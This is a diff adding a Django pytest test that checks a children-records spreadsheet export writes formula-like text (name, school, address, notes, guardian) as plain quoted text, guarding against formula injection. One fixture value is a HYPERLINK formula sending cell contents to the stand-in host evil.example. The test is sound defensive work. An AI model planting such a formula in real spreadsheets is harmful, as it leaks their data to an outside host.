@@ -12,6 +12,7 @@ from openpyxl import load_workbook
 
 from accounts import idcard
 from accounts.models import AuditAction, AuditEvent
+from children import services
 from children.export import COLUMNS
 
 pytestmark = pytest.mark.django_db
@@ -154,3 +155,24 @@ def test_export_query_count_does_not_grow_with_the_rows(client, staff_lishi, mak
     with CaptureQueriesContext(connection) as five:
         export(client)
     assert len(five.captured_queries) == len(one.captured_queries)
+
+
+# Text a spreadsheet would run as a formula, in the free-text columns (name, school, address, notes,
+# guardian): each must come out as the text itself, never a formula.
+FORMULA_TEXT = {
+    "姓名": "=1+1",
+    "学校": "+86学校",
+    "家庭住址": '=HYPERLINK("http://evil.example/?"&A1,"详情")',
+    "备注": "-2+3",
+    "监护人": "@SUM(1,1)（祖父）",
+}
+
+
+@pytest.mark.parametrize("header", list(FORMULA_TEXT))
+def test_formula_like_text_is_exported_as_text(client, staff_lishi, make_child, header):
+    make_child(staff_lishi, name=FORMULA_TEXT["姓名"], school=FORMULA_TEXT["学校"], address=FORMULA_TEXT["家庭住址"],
+               notes=FORMULA_TEXT["备注"], guardians=[services.GuardianData(name="@SUM(1,1)", relation="祖父")])
+    client.force_login(staff_lishi)
+    sheet = sheet_of(export(client))
+    cell = sheet.cell(row=2, column=[h for h, _width in COLUMNS].index(header) + 1)
+    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", FORMULA_TEXT[header], True)
